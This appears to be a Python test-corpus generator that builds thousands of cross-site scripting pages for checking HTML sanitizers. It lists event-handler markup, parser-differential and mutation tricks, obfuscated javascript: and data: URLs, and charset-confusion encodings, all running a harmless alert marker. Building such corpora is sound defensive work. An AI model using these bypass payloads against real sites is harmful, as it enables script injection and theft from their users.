"""Pages that try to get a script through a sanitizer, made by class.

Each class is a way that sanitizers were broken before: bytes joined by what is
taken out, elements read as raw text by one parser only, foreign content that
ends where another parser goes on, attributes that end early, addresses that do
not look like what they are, encodings in which '<' is another byte. Every class
is a template, filled with every payload that fits it; vectors() lists
(name, bytes). `RUN` is a piece of script that tells on itself.
"""
RUN = "top.PWNED=1,alert(1)"

# Markup that runs when it is read as markup.
LIVE = [f"<script>{RUN}</script>", f"<img src=x onerror={RUN}>",
        f"<svg onload={RUN}>", f"<iframe srcdoc='<script>{RUN}</script>'>",
        f"<body onload={RUN}>", f"<details open ontoggle={RUN}>x",
        f"<video><source onerror={RUN}>", f"<input autofocus onfocus={RUN}>",
        f"<style onload={RUN}></style>", f"<object data='javascript:{RUN}'>",
        f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
        f"<base href='javascript:/{RUN}/'><a href=x>x</a>"]

RAW = ["noscript", "style", "textarea", "title", "xmp", "iframe", "noembed",
       "noframes", "script", "template", "select", "plaintext", "option"]

FOREIGN = ["svg", "math", "svg><desc", "svg><title", "svg><foreignObject",
           "math><mtext", "math><mi", "math><annotation-xml encoding=text/html",
           "math><mtext><mglyph", "math><mtext><table><mglyph",
           "svg><style", "math><style", "svg><script", "svg><a><desc"]

ADDRESS = [f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f" javascript:{RUN}",
           f"\x01javascript:{RUN}", f"java\nscript:{RUN}", f"java\tscript:{RUN}",
           f"&#106;avascript:{RUN}", f"&#x6A;avascript:{RUN}",
           f"java&Tab;script:{RUN}", f"javascript&colon;{RUN}",
           f"javascript&#58{RUN}", f"vbscript:{RUN}",
           f"data:text/html,<script>{RUN}</script>",
           f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' "
           f"onload='{RUN}'/>",
           f"data:application/xhtml+xml,<x>{RUN}</x>", f"blob:{RUN}",
           f"view-source:javascript:{RUN}", f"feed:javascript:{RUN}",
           f"jar:javascript:{RUN}", f"//javascript:{RUN}",
           f"javascript://x/%0a{RUN}", f"\x00javascript:{RUN}",
           f"\u3000javascript:{RUN}", f"filesystem:{RUN}", f"intent:{RUN}"]

CARRIERS = ["<a href='{}'>x</a>", "<area href='{}'>", "<img src='{}'>",
            "<iframe src='{}'></iframe>", "<object data='{}'></object>",
            "<embed src='{}'>", "<form action='{}'><button>x</button></form>",
            "<button formaction='{}'>x</button>", "<base href='{}'><a href=y>x",
            "<svg><a href='{}'><text>x</text></a></svg>",
            "<svg><use href='{}'/></svg>", "<math href='{}'>x</math>",
            "<video src='{}' poster='{}'></video>", "<body background='{}'>",
            "<blockquote cite='{}'>x</blockquote>", "<link rel=import href='{}'>",
            "<meta http-equiv=refresh content='0;url={}'>",
            "<table background='{}'><tr><td>x</table>",
            "<svg><set attributeName=href to='{}'/></svg>",
            "<img srcset='{} 1x'>"]

HANDLERS = ["onclick", "onload", "onerror", "onfocus", "ontoggle", "oncut",
            "onbeforetoggle", "onanimationstart", "onpointerrawupdate",
            "onscrollend", "oncontentvisibilityautostatechange", "ON", "onX"]

TEMPLATES = {
    # What is taken out joins the two sides.
    "joined": ["<<script>x</script>{cut}", "<<!--x-->{cut}",
               "<<style>x</style>{cut}", "<<!--[if IE]>x<![endif]-->{cut}",
               "<</nav>{cut}", "<scr<script>x</script>ipt>{run}</script>",
               "<<nav>menu</nav>{cut}"],
    # Attributes that end where a parser sees another end.
    "quoted": ["<p title='{live}'>x</p>", '<p title="</p>{live}">x</p>',
               "<p title=`{live}`>x</p>", "<p a='\"'b=\"'>{live}\">x</p>",
               "<img alt='<!--' src=x><img alt='-->{live}'>",
               "<p/title='>{live}'>x", "<p title=\x00'{live}'>x",
               "<a href='x' =\"{live}\">x</a>", "<p id='\"><x>{live}'>x</p>"],
    "comment": ["<!--x--!>{live}-->", "<!-->{live}-->", "<!--->{live}-->",
                "<!--[if gte IE 4]>{live}<![endif]-->", "<!x>{live}",
                "<?php echo '{live}' ?>", "<![CDATA[{live}]]>",
                "<svg><![CDATA[{live}]]></svg>", "<!-- <!-- -->{live} -->",
                "</ {live}>", "<!doctype {live}>"],
    "table": ["<table>{live}<tr><td>x</table>", "<table><tr>{live}<td>x</table>",
              "<table><caption>{live}</table>", "<table><colgroup>{live}</table>",
              "<table><style>{live}</style><tr><td>x</table>",
              "<select><table>{live}</table></select>",
              "<form><table><form>{live}</form></table></form>"],
    "misnested": ["<b><p>{live}</b></p>", "<a><table><a>{live}</a></table></a>",
                  "<p><svg><p>{live}</svg>", "<math><p>{live}</math>",
                  "<form><math><mtext></form><form><mglyph><style></math>{live}",
                  "<svg></p><style><a id='</style>{live}'>",
                  "<math></br><style><a title='</style>{live}'>",
                  "<frameset><frame src='javascript:{run}'></frameset>"],
    "references": ["&lt;img src=x onerror={run}&gt;", "<p>&#60;script&#62;{run}",
                   "<p title='&quot;>{live}'>x", "<p>&lt{live}",
                   "<title>&lt;/title&gt;{live}</title>x",
                   "<pre>&#13;{live}</pre>", "<p>&amp;lt;script&amp;gt;{run}"],
}

ENCODED = {
    "iso-2022-jp": lambda t: b"<meta charset=iso-2022-jp>" + t.encode().replace(
        b"<", b"\x1b(J<"),
    "utf-7": lambda t: b"<meta charset=utf-7>" + t.replace(
        "<", "+ADw-").replace(">", "+AD4-").encode(),
    "utf-16le": lambda t: b"\xff\xfe" + t.encode("utf-16-le"),
    "utf-16be-odd": lambda t: b"\xfe\xff" + t.encode("utf-16-be") + b"<",
    "shift_jis": lambda t: b"<meta charset=shift_jis><p title=\"\x81\">" +
    t.encode() + b"\">",
    "gb18030": lambda t: b"<meta charset=gb18030><p title='\x81'>" + t.encode(),
    "hz": lambda t: b"<meta charset=hz-gb-2312>~{" + t.encode() + b"~}",
    "x-user-defined": lambda t: b"<meta charset=x-user-defined>" + t.encode(),
    "overlong": lambda t: t.encode().replace(b"<", b"\xc0\xbc"),
}


def vectors():
    """[(name, bytes)], the same in every run."""
    found = []

    def add(kind, page):
        if isinstance(page, str):
            page = page.encode("utf-8", "surrogatepass")
        found.append((f"{kind}-{len(found):04d}.html", page))

    for live in LIVE:
        add("plain", live)
        for raw in RAW:
            add("raw", f"<{raw}>{live}</{raw}>x")
            add("raw", f"<{raw}><p title=\"</{raw}>{live}\">x")
        for foreign in FOREIGN:
            add("foreign", f"<{foreign}>{live}x")
        for kind, templates in TEMPLATES.items():
            for template in templates:
                add(kind, template.replace("{live}", live)
                    .replace("{cut}", live[1:]).replace("{run}", RUN))
    for address in ADDRESS:
        for carrier in CARRIERS:
            add("address", carrier.replace("{}", address))
    for handler in HANDLERS:
        for tag in ("p", "a", "img", "svg", "math", "x-y", "table", "body"):
            add("handler", f"<{tag} {handler}={RUN}>x</{tag}>")
            add("handler", f"<{tag}/{handler}='{RUN}'/>x")
    for kind, encode in ENCODED.items():
        for live in LIVE:
            add(kind, encode(live + "<p>x</p>"))
    return found
